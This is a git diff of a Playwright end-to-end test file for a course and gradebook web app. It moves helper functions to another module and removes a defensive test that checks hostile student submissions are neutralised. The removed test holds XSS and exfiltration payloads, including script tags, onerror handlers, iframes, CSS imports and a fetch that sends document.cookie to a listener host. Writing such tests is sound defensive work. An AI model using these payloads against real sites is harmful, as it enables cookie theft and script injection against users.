@@ -1,21 +1,18 @@
-import { createHash } from "node:crypto";
 import { readFileSync } from "node:fs";
 import AxeBuilder from "@axe-core/playwright";
-import { type Browser, expect, type Page, test } from "@playwright/test";
+import { expect, type Page, test } from "@playwright/test";
 import { classTexts } from "../../../src/host/messages/class.ts";
 import { gradebookTexts } from "../../../src/host/messages/gradebook.ts";
 import { instructorTexts } from "../../../src/host/messages/instructor.ts";
 import { readingTexts } from "../../../src/host/messages/reading.ts";
 import { regradeTexts } from "../../../src/host/messages/regrade.ts";
 import type { Language } from "../../../src/shared/text.ts";
-import { journalOf, submissionWith } from "../../../src/submission/submission.fixture.ts";
-import type { Submission } from "../../../src/submission/submission.ts";
-import { writeSubmission } from "../../../src/submission/write-submission.ts";
-import { listen } from "../listener.ts";
+import { journalOf } from "../../../src/submission/submission.fixture.ts";
 import { pressUntil } from "./by-keyboard.ts";
 import { type RunningClass, startClass } from "./class-process.ts";
 import { speak, walkTeaching } from "./faces.ts";
 import { tfidf, words } from "./support.ts";
+import { enrol, fileOf, handIn, lab, labHashOf, newPage, part, teach } from "./teaching.ts";
 
 const texts = instructorTexts["pt-BR"];
 const reading = readingTexts["pt-BR"];
@@ -25,56 +22,6 @@ const student = classTexts["pt-BR"];
 const [idf] = tfidf.exercises;
 if (!idf?.solution) throw new Error("The lab has no first exercise with a solution.");
 const { cell, solution } = idf;
-const lab = "vectorization/tfidf";
-
-const newPage = async (browser: Browser): Promise<Page> =>
-  (await browser.newContext({ locale: "pt-BR", serviceWorkers: "block", acceptDownloads: true })).newPage();
-
-/** Rita's account, by the first link's token, and a course of hers. */
-async function teach(page: Page, { url, firstLink }: RunningClass): Promise<{ course: string; joinCode: string }> {
-  const token = firstLink.slice(firstLink.indexOf("#") + 1);
-  const headers = { origin: url };
-  const person = { token, name: "Rita Prado", email: "rita@example.edu", password: "uma senha comprida" };
-  const made = await page.request.post(`${url}/api/first-instructor`, { headers, data: person });
-  expect(made.status(), await made.text()).toBeLessThan(300);
-  const course = await page.request.post(`${url}/api/courses`, { headers, data: { name: "Aprendizado de Máquina" } });
-  const { id, joinCode } = await course.json();
-  return { course: id, joinCode };
-}
-
-/** The hash of the lab as this server has it. */
-async function labHashOf(page: Page, url: string): Promise<string> {
-  const labs: { hash: string; labId: string }[] = await (await page.request.get(`${url}/api/labs`)).json();
-  return labs.find(({ labId }) => labId === lab)?.hash ?? "";
-}
-
-/** Hands in a file of the lab for whoever is signed in on the page. */
-async function handIn(page: Page, url: string, assignment: string, file: { hash: string; text: string }) {
-  const path = `${url}/api/assignments/${assignment}/submissions/${file.hash}`;
-  const headers = { origin: url, "content-type": "text/html; charset=utf-8" };
-  const sent = await page.request.put(path, { headers, data: file.text });
-  expect(sent.status(), await sent.text()).toBe(201);
-  return (await sent.json()) as { id: string };
-}
-
-function fileOf(labHash: string, body: string, change: Partial<Submission> = {}) {
-  const submission = submissionWith({ lab: { id: lab, version: tfidf.version, hash: labHash }, ...change });
-  const text = writeSubmission(submission, { title: "TF-IDF", css: "", body });
-  return { text, hash: createHash("sha256").update(text).digest("hex") };
-}
-
-async function enrol(page: Page, url: string, person: { name: string; email: string; joinCode: string }) {
-  const { joinCode, ...account } = person;
-  const headers = { origin: url };
-  const data = { ...account, password: "outra senha comprida" };
-  const made = await page.request.post(`${url}/api/account`, { headers, data });
-  expect(made.status(), await made.text()).toBe(201);
-  const joined = await page.request.post(`${url}/api/memberships`, { headers, data: { joinCode } });
-  expect(joined.status(), await joined.text()).toBeLessThan(300);
-}
-
-const part = (page: Page, name: string) =>
-  page.getByRole("navigation", { name: /Aprendizado/ }).getByRole("link", { name, exact: true });
 
 test.describe("teaching a class", () => {
   let running: RunningClass;
@@ -222,96 +169,6 @@ test.describe("teaching a class", () => {
       await gradeByKeyboard(rita, `${url}/class/${course}`);
     });
   }
-
-  test("a hostile submission reaches nobody, reads nothing, and gives no grade", async ({ browser }) => {
-    test.setTimeout(180_000);
-    const [rita, eva] = [await newPage(browser), await newPage(browser)];
-    const { url } = running;
-    const { course, joinCode } = await teach(rita, running);
-    const outside = await listen();
-    const E = outside.http;
-    const markup = `<img src="${E}/name" onerror="globalThis.broken=1"><script>globalThis.broken=1</script>`;
-    const hostile = [
-      `<link rel="preconnect" href="${outside.tcp}"><link rel="dns-prefetch" href="${E}"><link rel="stylesheet" href="${E}/css">`,
-      `<meta http-equiv="refresh" content="0;url=${E}/refresh"><base href="${E}/">`,
-      `<img src="${E}/img" srcset="${E}/srcset 2x"><video poster="${E}/poster" src="${E}/video"></video><audio src="${E}/audio" autoplay></audio>`,
-      `<img src="/api/session"><img src="/api/courses">`,
-      `<iframe src="${E}/frame"></iframe><iframe srcdoc="<img src='${E}/srcdoc'>"></iframe><object data="${E}/object"></object><embed src="${E}/embed">`,
-      `<svg><image href="${E}/svg"/><use href="${E}/use#a"/><script>parent.broken=1</script><foreignObject><img src="${E}/fo"></foreignObject><animate attributeName="href" values="${E}/a"/></svg>`,
-      `<div style="background:url(${E}/background)">x</div><style>@import url(${E}/import);body{background:url(${E}/body)}</style>`,
-      `<form action="/api/session" method="post"><button autofocus>x</button></form><math><mtext><img src="${E}/math"></mtext></math>`,
-      `<script>fetch("${E}/script?"+document.cookie);parent.localStorage.x=1;parent.broken=1</script><p id="stands">fim</p>`,
-    ].join("\n");
-    await enrol(eva, url, { name: `Eva ${markup}`.slice(0, 120), email: "eva@example.edu", joinCode });
-    const labHash = await labHashOf(rita, url);
-    const headers = { origin: url };
-    const made = await rita.request.post(`${url}/api/courses/${course}/assignments`, {
-      headers,
-      data: {
-        ...{ title: `Tarefa ${markup}`, labHash, maxPoints: 10 },
-        ...{ opensAt: "2020-01-01T00:00:00Z", dueAt: "2190-01-01T00:00:00Z" },
-      },
-    });
-    const { id: task } = await made.json();
-    const file = fileOf(labHash, hostile, {
-      names: [markup.slice(0, 120)],
-      changed: [{ cell, text: `${markup}\nconst idf = () => 0;` }],
-      own: [{ id: 1_000_001, after: cell, mode: "md", text: markup }],
-      outputs: [{ cell, summary: markup, error: markup }],
-      reflections: [{ reflection: "x", text: markup }],
-    });
-    const { id } = await handIn(eva, url, task, file);
-    const comment = await rita.request.post(`${url}/api/submissions/${id}/comments`, {
-      headers,
-      data: { cell, text: markup },
-    });
-    expect(comment.status()).toBe(201);
-
-    const asked: string[] = [];
-    rita.on("request", (request) => asked.push(`${request.method()} ${request.url()}`));
-    await rita.addInitScript(() => localStorage.setItem("canary", "untouched"));
-    await rita.goto(`${url}/class/${course}/submissions/${id}`);
-    await expect(rita.getByRole("article", { name: reading.cell(cell) })).toContainText("const idf = () => 0;");
-    await rita.getByRole("button", { name: reading.showPage }).click();
-    const frame = rita.frameLocator("iframe.reading__page");
-    await expect(frame.getByText("fim")).toBeVisible();
-    // Whatever the markup starts has had its time once other pages came and went.
-    await part(rita, texts.parts.grades).click();
-    await expect(rita.getByRole("button", { name: /Eva/ })).toBeVisible();
-    await rita.getByRole("button", { name: /Eva/ }).click();
-    await expect(rita.getByRole("dialog")).toBeVisible();
-    await rita.keyboard.press("Escape");
-    await part(rita, texts.parts.submissions).click();
-    await rita.getByRole("link", { name: /Eva/ }).click();
-    await rita.getByRole("button", { name: reading.showPage }).click();
-    await expect(frame.getByText("fim")).toBeVisible();
-    await eva.goto(`${url}/class`);
-    await expect(
-      eva
-        .getByText(student.openLab("").trim())
-        .or(eva.getByText(/Tarefa </))
-        .first(),
-    ).toBeVisible();
-
-    expect(outside.paths).toEqual([]);
-    expect(outside.counts).toEqual({ tcp: 0, udp: 0 });
-    expect(asked.filter((one) => !one.includes(url) && !/^GET (data|blob):/.test(one))).toEqual([]);
-    expect(asked.filter((one) => !one.startsWith("GET"))).toEqual([]);
-    for (const page of [rita, eva]) {
-      expect(await page.evaluate(() => "broken" in globalThis)).toBe(false);
-    }
-    expect(await rita.evaluate(() => [localStorage.getItem("canary"), localStorage.getItem("x")])).toEqual([
-      "untouched",
-      null,
-    ]);
-    const standing = await rita.request.get(`${url}/api/courses/${course}/gradebook`);
-    const [row] = (await standing.json()).students;
-    expect(row.cells[0].manual).toBe(false);
-    // The listener hears who asks: nothing above was silent for want of ears.
-    await fetch(`${E}/control`);
-    expect(outside.paths).toEqual(["/control"]);
-    await outside.close();
-  });
 });
 
 /** From the address to a student's grades and back without a mouse, and it always shows where one is. */
